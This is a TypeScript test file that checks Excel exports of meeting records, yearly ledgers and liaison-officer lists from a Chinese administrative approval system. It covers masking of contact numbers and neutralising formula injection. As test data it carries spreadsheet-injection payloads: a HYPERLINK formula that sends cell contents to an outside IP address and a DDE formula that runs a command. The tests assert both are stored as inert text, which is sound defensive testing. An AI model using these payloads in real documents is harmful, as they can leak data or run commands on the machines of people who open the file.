/**
 * Workbooks of meetings, of a year and of the officers (办法 27–31): LibreOffice and SheetJS read the same, paper repeats the
 * head of each sheet, nothing that somebody wrote becomes a formula, and contacts are masked unless chosen.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { read, utils } from 'xlsx';
import { required } from '../../../build/node-workstation.ts';
import { agendaItem, close, convene, itemRecord, Meetings, planned } from './meetings-helpers.ts';
import { RECIPIENT, SENDER } from './two-departments.ts';

const CALC = ['/usr/lib/libreoffice/program/libsclo.so', '/usr/lib64/libreoffice/program/libsclo.so'];
const hasCalc =
  spawnSync('soffice', ['--version']).error === undefined && CALC.some((path) => spawnSync('test', ['-e', path]).status === 0);
const FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"请点击")';
const COMMAND = "=cmd|'/c calc'!A1";

let world: Meetings;
let meetingId: string;
const books: Record<string, Uint8Array> = {};

/** One 例会 with an agreed item, one that wasn't, officers on both sides, and texts that a spreadsheet might run. */
beforeAll(async () => {
  world = await Meetings.create();
  const { approval } = world;
  const agreed = agendaItem(COMMAND, { background: '+1+1', question: '@SUM(A1:A9)' });
  const open = agendaItem('踏勘意见反馈时限', { proposerId: RECIPIENT.uscc, proposer: RECIPIENT.name });
  meetingId = await convene(approval, { agenda: [agreed, open], contact: '王经办，13800001234', remarks: FORMULA });
  const positions = [
    { departmentId: SENDER.uscc, department: SENDER.name, stance: 'agree' as const, text: '同意统一口径' },
    { departmentId: RECIPIENT.uscc, department: RECIPIENT.name, stance: 'reserve' as const, text: '' },
  ];
  const vote = { for: 2, against: 0, abstain: 1 };
  const records = [
    itemRecord(agreed, { outcome: 'agreed', conclusion: '统一口径。', positions, vote, actions: [planned('=1+1\n报送清单')] }),
    itemRecord(open, { outcome: 'notAgreed', conclusion: '时限不一致', next: 'jointConference' }),
  ];
  required(await close(approval, meetingId, records));
  const officer = {
    ...{ name: '张联络', section: '监管科', position: '科长', telephone: '0537-1234567', mobile: '13800005678', headOfSection: true },
    ...{ duties: ['meetings' as const, 'fieldwork' as const], from: '2026-01-01', until: '' },
  };
  const { liaisonId } = required(await approval.workstation.saveLiaison({ liaison: officer, reason: '' }));
  world.later();
  required(await approval.workstation.saveLiaison({ liaisonId, liaison: { ...officer, section: FORMULA }, reason: '科室调整' }));
  for (const contacts of [false, true]) {
    const name = contacts ? 'full' : 'masked';
    books[`meeting-${name}`] = await saved(`meeting-${name}.xlsx`, (token) =>
      approval.workstation.saveMeetingWorkbook({ meetingId, token, contacts }),
    );
    books[`liaisons-${name}`] = await saved(`liaisons-${name}.xlsx`, (token) => approval.workstation.saveLiaisonList({ token, contacts }));
  }
  books.year = await saved('year.xlsx', (token) => approval.workstation.saveYearLedger({ year: 2026, token }));
});
afterAll(async () => {
  await world.remove();
});

async function saved(name: string, write: (token: string) => Promise<{ readonly ok: boolean }>): Promise<Uint8Array> {
  const path = world.two.path(name);
  expect(await write(world.approval.target(path).token)).toMatchObject({ ok: true });
  return new Uint8Array(await readFile(path));
}

const bookOf = (name: string) => books[name] ?? new Uint8Array();

/** As SheetJS reads it: sheet by sheet, what is shown. */
function bySheetJs(bytes: Uint8Array): Readonly<Record<string, string[][]>> {
  const { SheetNames, Sheets } = read(bytes, { type: 'array', dateNF: 'yyyy-mm-dd' });
  return Object.fromEntries(
    SheetNames.map((name) => {
      const sheet = Sheets[name];
      const rows = sheet ? utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: '' }) : [];
      return [name, rows.map((row) => row.map((cell) => String(cell).replaceAll('\r\n', '\n')))];
    }),
  );
}

/** As LibreOffice reads it, by way of one CSV file a sheet; one start of the program for all. */
function byLibreOffice(names: readonly string[]): Readonly<Record<string, Record<string, string[][]>>> {
  const folder = mkdtempSync(join(tmpdir(), 'calc-'));
  try {
    for (const name of names) writeFileSync(join(folder, `${name}.xlsx`), bookOf(name));
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
    // comma, quote, UTF-8, from row 1, as it is shown, all sheets
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1';
    const files = names.map((name) => join(folder, `${name}.xlsx`));
    execFileSync('soffice', ['--headless', profile, '--convert-to', filter, '--outdir', folder, ...files], { stdio: 'ignore' });
    return Object.fromEntries(
      names.map((name) => [
        name,
        Object.fromEntries(
          read(bookOf(name), { type: 'array' }).SheetNames.map((sheet) => [sheet, csvRows(join(folder, `${name}-${sheet}.csv`))]),
        ),
      ]),
    );
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

/** RFC 4180 */
function csvRows(path: string): string[][] {
  const rows: string[][] = [[]];
  const fields = readFileSync(path, 'utf8')
    .replace(/^\ufeff/, '')
    .matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r?\n|$)/g);
  for (const [whole, field = '', end = ''] of fields) {
    if (whole === '') continue;
    rows.at(-1)?.push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field);
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
}

const NAMES = ['meeting-masked', 'liaisons-full', 'year'];

describe('the workbooks', () => {
  it('have the sheets of the issue with what the meeting decided', () => {
    const meeting = bySheetJs(bookOf('meeting-masked'));
    expect(Object.keys(meeting)).toEqual(['会议概况', '参会情况', '议题与结论', '督办事项']);
    expect(meeting.会议概况).toContainEqual(['会议类型', '例会（办法第二十九条）']);
    expect(meeting.会议概况).toContainEqual(['议题', '2 个，达成一致 1 个，未达成一致 1 个，暂缓 0 个']);
    expect(meeting.会议概况).toContainEqual(['督办事项', '1 项，未完成 1 项']);
    expect(meeting.参会情况?.slice(1)).toEqual([
      ['1', SENDER.name, '召集', '李局长', '局长', '出席', '到会', ''],
      ['2', RECIPIENT.name, '未回复', '张联络', '科长', '出席', '迟到', ''],
    ]);
    const [, agreed, open] = meeting.议题与结论 ?? [];
    expect(agreed?.slice(5)).toEqual([
      ...['1', `${SENDER.name}：同意。同意统一口径\n${RECIPIENT.name}：保留意见`, '同意2票，反对0票，弃权1票'],
      ...['达成一致意见', '统一口径。', ''],
    ]);
    // 31(三): raised to the 联席会议
    expect(open?.slice(8)).toEqual(['未达成一致意见', '时限不一致', '形成解决意见，提请区行政审批与监管联席会议审定']);
    expect(meeting.督办事项?.[1]?.slice(2, 8)).toEqual(['=1+1\n报送清单', RECIPIENT.name, SENDER.name, '2026-12-15', '0', '办理中']);
    const year = bySheetJs(bookOf('year'));
    expect(Object.keys(year)).toEqual(['会议台账', '督办台账']);
    expect(year.会议台账?.[1]?.slice(0, 6)).toEqual(['1', '2026-11-23', '14:30–16:00', '例会', '第11期', '2026年11月审批与监管联络员例会']);
    expect(year.会议台账?.[1]?.slice(10)).toEqual(['0', '2', '2', '1', '1', '1', '1', '', '已召开']);
    expect(year.督办台账).toHaveLength(2);
  });

  it('of another year has heads only, and a year that is none is refused', async () => {
    const { approval } = world;
    const empty = bySheetJs(await saved('empty.xlsx', (token) => approval.workstation.saveYearLedger({ year: 2025, token })));
    expect(Object.values(empty).map((rows) => rows.length)).toEqual([1, 1]);
    const { token } = approval.target(world.two.path('none.xlsx'));
    expect(await approval.workstation.saveYearLedger({ year: 0, token })).toMatchObject({ ok: false, error: { code: 'meeting.year' } });
  });

  it.skipIf(!hasCalc)(
    'read the same in LibreOffice and in SheetJS',
    () => {
      const office = byLibreOffice(NAMES);
      for (const name of NAMES) {
        for (const [sheet, rows] of Object.entries(bySheetJs(bookOf(name)))) {
          expect(office[name]?.[sheet], `${name} ${sheet}`).toEqual(rows);
        }
      }
    },
    120_000,
  );

  it('repeat their heads on paper, freeze and filter them, and are as wide as one A4 page across', () => {
    for (const bytes of Object.values(books)) {
      const parts = unzipSync(bytes);
      const part = (name: string) => strFromU8(parts[name] ?? new Uint8Array());
      const { SheetNames } = read(bytes, { type: 'array' });
      SheetNames.forEach((name, index) => {
        expect(part('xl/workbook.xml')).toContain(
          `<definedName name="_xlnm.Print_Titles" localSheetId="${index}">'${name}'!$1:$1</definedName>`,
        );
        const xml = part(`xl/worksheets/sheet${index + 1}.xml`);
        expect(xml).toMatch(/<autoFilter ref="A1:[A-Z]+\d+"\/>/);
        expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
        expect(xml).toContain('<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>');
        expect(xml).toMatch(/<oddHeader>&amp;C[^<]+<\/oddHeader>/);
      });
    }
  });

  it('hold what looks like a formula as text', () => {
    for (const [name, bytes] of Object.entries(books)) {
      const parts = unzipSync(bytes);
      const sheets = Object.keys(parts).filter((part) => part.startsWith('xl/worksheets/'));
      for (const sheet of sheets) expect(strFromU8(parts[sheet] ?? new Uint8Array()), `${name} ${sheet}`).not.toMatch(/<f[ >]/);
    }
    const cells = read(bookOf('meeting-masked'), { type: 'array', cellFormula: true, cellNF: true }).Sheets;
    expect(cells.议题与结论?.B2).toMatchObject({ t: 's', v: COMMAND, z: '@' });
    expect(cells.议题与结论?.D2).toMatchObject({ t: 's', v: '+1+1', z: '@' });
    expect(cells.督办事项?.C2).toMatchObject({ t: 's', z: '@' });
    expect(bySheetJs(bookOf('meeting-masked')).会议概况).toContainEqual(['备注', FORMULA]);
  });
});

describe('contacts (personal data)', () => {
  it('are masked unless they are chosen', () => {
    expect(bySheetJs(bookOf('meeting-masked')).会议概况).toContainEqual(['联系人', '王经办，138****1234']);
    expect(bySheetJs(bookOf('meeting-full')).会议概况).toContainEqual(['联系人', '王经办，13800001234']);
    const contacts = (name: string) => bySheetJs(bookOf(name)).联络员?.[1]?.slice(6, 8);
    expect(contacts('liaisons-masked')).toEqual(['053*-***4567', '138****5678']);
    expect(contacts('liaisons-full')).toEqual(['0537-1234567', '13800005678']);
    const all = strFromU8(unzipSync(bookOf('liaisons-masked'))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(all).not.toContain('13800005678');
  });

  it('the list tells changes with their reasons, and who has no officer (办法 27)', () => {
    const { 调整记录: changes, 尚无联络员的部门: without } = bySheetJs(bookOf('liaisons-full'));
    expect(changes?.slice(1).map((row) => [row[5], row[9]])).toEqual([
      ['监管科', ''],
      [FORMULA, '科室调整'],
    ]);
    expect(without?.slice(1).map((row) => row[1])).toEqual([RECIPIENT.name]);
  });
});
